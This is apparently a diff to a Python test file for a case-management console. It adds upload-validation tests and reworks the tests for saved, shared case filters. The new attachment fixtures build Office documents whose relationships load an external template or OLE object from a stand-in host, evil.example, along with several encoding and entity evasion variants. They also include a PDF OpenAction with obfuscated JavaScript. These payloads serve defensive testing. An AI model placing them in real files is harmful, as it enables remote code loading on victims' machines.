@@ -11,6 +11,7 @@ from test_doors_cases_console import NASTY, living, shows
 from jindi.cases import LOTS, Assign, Attach, Close, Merge, Review, Task, Tick, Withdraw
 from jindi.cases.evidence import FILE_BYTES_MAX, looked_at, plain_name
 from jindi.run.cases import Declined, team_of
+from jindi.run.filters import Filters
 from jindi.run.records import CaseRecord
 from shop_world import CARD, DAY_US, HOUR_US, PHONE
 
@@ -23,6 +24,24 @@ def zipped(*names, size=10):
         for name in names:
             parts.writestr(name, b"0" * size)
     return out.getvalue()
+
+
+def document(relations):
+    """A document of Office with what it says it hangs on."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as parts:
+        for name in ("[Content_Types].xml", "word/document.xml"):
+            parts.writestr(name, b"<x/>")
+        parts.writestr("word/_rels/settings.xml.rels", relations)
+    return out.getvalue()
+
+
+def related(kind):
+    return (
+        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
+        f'{kind}" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>'
+    ).encode()
 
 
 # ---- what may be attached
@@ -50,6 +69,16 @@ def zipped(*names, size=10):
         (zipped("[Content_Types].xml", "xl/workbook.xml", "xl/vbaProject.bin"), "sheet", "file_active"),
         (zipped("[Content_Types].xml", "word/document.xml", "word/embeddings/a.bin"), "document", "file_active"),
         (zipped("[Content_Types].xml", "xl/workbook.xml", size=60_000_000), "sheet", "file_too_large"),
+        (PDF + b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>", "application/pdf", "file_active"),
+        (document(related("hyperlink")), "document", None),
+        (document(related("attachedTemplate")), "document", "file_active"),
+        (document(related("oleObject")), "document", "file_active"),
+        (document(related("frame").replace(b'"External"', b"'External'")), "document", "file_active"),
+        (document(related("attachedTemplate").replace(b"x.dotm", b"x>.dotm")), "document", "file_active"),
+        (document(related("attached&#84;emplate")), "document", "file_active"),
+        (document(b'<!DOCTYPE r [<!ENTITY t "frame">]>' + related("&t;")), "document", "file_active"),
+        (document(related("attachedTemplate").decode().encode("utf-16")), "document", "file_active"),
+        (document(b" " * 3_000_000), "document", "file_too_large"),
     ],
 )
 def test_a_file_is_what_its_content_says_and_nothing_that_runs_is_taken(content, media, why):
@@ -273,26 +302,31 @@ def test_the_team_page_counts_what_everybody_has_and_has_done():
 # ---- kept filters
 
 
-def test_a_filter_is_kept_shared_used_and_forgotten():
+def test_a_filter_of_cases_is_kept_shared_used_renamed_and_forgotten():
     async def go(world):
-        visit, other = world.visit(), world.visit("zhao")
-        kept = await visit.post(
-            "/console/case-filters", name="大额 高危", tab="all", level="high", order="money", shared="1"
-        )
-        assert kept.headers["location"].endswith("kept=done")
-        await visit.post("/console/case-filters", name="my own", tab="all", late="1")
-        mine = (await visit.get("/console/cases")).text
-        assert '<a href="/console/cases?tab=all&amp;level=high&amp;order=money">大额 高危</a>' in mine
+        visit, other, lead = world.visit(), world.visit("zhao"), world.visit("chen")
+        form = {"table": "cases", "name": "大额 高危", "tab": "all", "level": "high", "order": "money"}
+        kept = await visit.post("/console/tables/keep", **form, shared="1")
+        assert kept.headers["location"] == "/console/cases?tab=all&level=high&order=money&kept=done"
+        await visit.post("/console/tables/keep", table="cases", name="my own", tab="all", late="1")
+        assert "大额 高危" in (await visit.get("/console/cases")).text
         theirs = (await other.get("/console/cases")).text
-        assert "大额 高危" in theirs
+        (path,) = re.findall(r'<a href="(/console/filters/\d+)" title="shared by limin">大额 高危</a>', theirs)
         assert "my own" not in theirs
-        vain = await other.post("/console/case-filters/forget", name="大额 高危")
-        assert "kept=not_there" in vain.headers["location"]
-        await visit.post("/console/case-filters/forget", name="大额 高危")
-        assert "大额 高危" not in (await other.get("/console/cases")).text
-        again = type(world.desk.filters)(world.platform.blobs)
-        assert [each.name for each in again.of("limin")] == ["my own"]
-        assert await world.doings("cases.filter")
+        opened = await other.get(path)
+        assert opened.headers["location"] == "/console/cases?tab=all&level=high&order=money"
+        assert "大额 高危" not in (await lead.get("/console/cases")).text, "an auditor works no cases"
+        assert (await lead.get(path)).status_code == 404
+        for vain in ("rename", "forget"):
+            answer = await other.post(f"{path}/{vain}", name="theirs")
+            assert "kept=not_there" in answer.headers["location"]
+        await visit.post(f"{path}/rename", name="大额")
+        assert ">大额</a>" in (await other.get("/console/cases")).text
+        await visit.post(f"{path}/forget")
+        assert "大额" not in (await other.get("/console/cases")).text
+        assert (await other.get(path)).status_code == 404
+        assert [each.name for each in Filters(world.platform.blobs).of("limin", "cases")] == ["my own"]
+        assert await world.doings("table.filter")
 
     living(go)
 
@@ -308,9 +342,10 @@ def test_a_filter_is_kept_shared_used_and_forgotten():
 )
 def test_a_filter_that_can_t_be_kept_says_why(form, why):
     async def go(world):
-        answer = await world.visit().post("/console/case-filters", **form)
+        answer = await world.visit().post("/console/tables/keep", table="cases", **form)
         assert f"kept={why}" in answer.headers["location"]
-        assert world.desk.filters.of("limin") == []
+        assert CARD not in answer.headers["location"]
+        assert Filters(world.platform.blobs).of("limin", "cases") == []
 
     living(go)
 
